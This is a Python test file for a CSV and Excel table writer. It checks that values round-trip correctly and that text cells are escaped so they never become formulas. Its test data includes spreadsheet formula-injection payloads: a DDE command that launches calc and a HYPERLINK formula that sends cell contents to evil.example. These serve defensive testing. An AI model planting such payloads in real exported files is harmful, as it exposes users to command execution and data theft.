"""Tables written: read back by other programs, cell by cell; no text becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from config.tables import writing
from config.tables.writing import Column, neutral, number_format, write_csv, write_xlsx

COLUMNS = [
    Column("编号"),
    Column("金额", number_format(2)),
    Column("日期"),
    Column("时刻"),
    Column("样本"),
]
SHANGHAI = ZoneInfo("Asia/Shanghai")
ROW = (
    "00123",
    Decimal("-1234.50"),
    dt.date(2025, 3, 1),
    dt.datetime(2025, 3, 1, 8, 30, 15, tzinfo=SHANGHAI),
    True,
)
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
]


def as_csv(*rows: Any, columns: Any = COLUMNS) -> list[list[str]]:
    stream = io.BytesIO()
    assert write_csv(rows, columns, stream).rows == len(rows)
    assert stream.getvalue().startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))


def as_book(*rows: Any, columns: Any = COLUMNS, **more: Any) -> tuple[Any, bytes]:
    stream = io.BytesIO()
    assert write_xlsx(rows, columns, stream, title="清单", **more).rows == len(rows)
    return CalamineWorkbook.from_filelike(io.BytesIO(stream.getvalue())), stream.getvalue()


def test_a_csv_is_read_back_as_it_was_written() -> None:
    head, row = as_csv(ROW)
    assert head == ["编号", "金额", "日期", "时刻", "样本"]
    assert row == ["00123", "-1234.50", "2025-03-01", "2025-03-01 08:30:15+08:00", "TRUE"]


def test_a_workbook_keeps_what_each_cell_is() -> None:
    book, _bytes = as_book(ROW)
    head, row = book.get_sheet_by_name("清单").to_python()
    assert head == ["编号", "金额", "日期", "时刻", "样本"]
    assert row == ["00123", -1234.5, dt.date(2025, 3, 1), dt.datetime(2025, 3, 1, 8, 30, 15), True]  # noqa: DTZ001 (a sheet knows no zone)


def test_digits_that_a_sheet_would_lose_stay_text() -> None:
    long = ["110101199003078888", 2**60, Decimal("12345678901234567.89"), Decimal("NaN")]
    book, _bytes = as_book(*[(each,) for each in long], columns=[Column("x")])
    rows = book.get_sheet_by_index(0).to_python()[1:]
    assert [row[0] for row in rows] == [
        "110101199003078888",
        str(2**60),
        "12345678901234567.89",
        "NaN",
    ]


def test_a_day_before_the_calendar_of_sheets_stays_text() -> None:
    book, _bytes = as_book((dt.date(1899, 12, 31),), columns=[Column("x")])
    assert book.get_sheet_by_index(0).to_python()[1] == ["1899-12-31"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_never_a_formula(text: str) -> None:
    (_head, (cell,)) = as_csv((text,), columns=[Column("x")])
    assert cell == f"'{text}"
    book, content = as_book((text,), columns=[Column("x")])
    assert book.get_sheet_by_index(0).to_python()[1][0].strip() == text.strip()
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert b'quotePrefix="1"' in parts.read("xl/styles.xml")


def test_numbers_stay_numbers_whatever_their_sign() -> None:
    (_head, row) = as_csv((Decimal("-5.00"), -5, 7), columns=[Column("x")] * 3)
    assert row == ["-5.00", "-5", "7"]


@given(st.text(st.characters(codec="utf-8", exclude_characters="\x00")))
def test_no_neutral_text_begins_like_a_formula(text: str) -> None:
    assert not neutral(text).startswith(writing.LEAD_INS)
    assert neutral(text).removeprefix("'") in {text, text.removeprefix("'")}


def test_the_head_is_frozen_and_filters() -> None:
    _book, content = as_book(ROW, ROW)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b'<pane ySplit="1"' in sheet
    assert b'<autoFilter ref="A1:E3"' in sheet
    assert b"<cols>" in sheet


def test_the_second_sheet_says_where_the_first_came_from() -> None:
    def lines(written: writing.Written) -> list[tuple[str, Any]]:
        return [("rows", written.rows), ("filters", "=state: open")]

    book, _bytes = as_book(ROW, ROW, provenance=lines, provenance_title="出处")
    assert book.sheet_names == ["清单", "出处"]
    assert book.get_sheet_by_name("出处").to_python() == [["rows", 2], ["filters", "=state: open"]]


def test_a_text_longer_than_a_cell_is_cut_and_counted() -> None:
    stream = io.BytesIO()
    written = write_xlsx([("x" * 40_000,), ("y",)], [Column("x")], stream, title="t")
    assert written == writing.Written(2, cut=1)
    stream.seek(0)
    cell = CalamineWorkbook.from_filelike(stream).get_sheet_by_index(0).to_python()[1][0]
    assert len(cell) == writing.LONGEST_TEXT
    assert cell.endswith("…")


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writing, "MOST_ROWS", 3)
    rows = [(1,)] * 3
    with pytest.raises(writing.TooManyForASheet):
        write_xlsx(rows, [Column("x")], io.BytesIO(), title="t")
    write_xlsx(rows[:2], [Column("x")], io.BytesIO(), title="t")


@pytest.mark.parametrize(
    ("title", "name"),
    [("产品: 清单/2025?", "产品  清单 2025"), ("", "Sheet"), ("x" * 40, "x" * 31), ("'a'", "a")],
)
def test_a_sheet_has_a_name_that_it_may_have(title: str, name: str) -> None:
    assert writing.sheet_name(title) == name
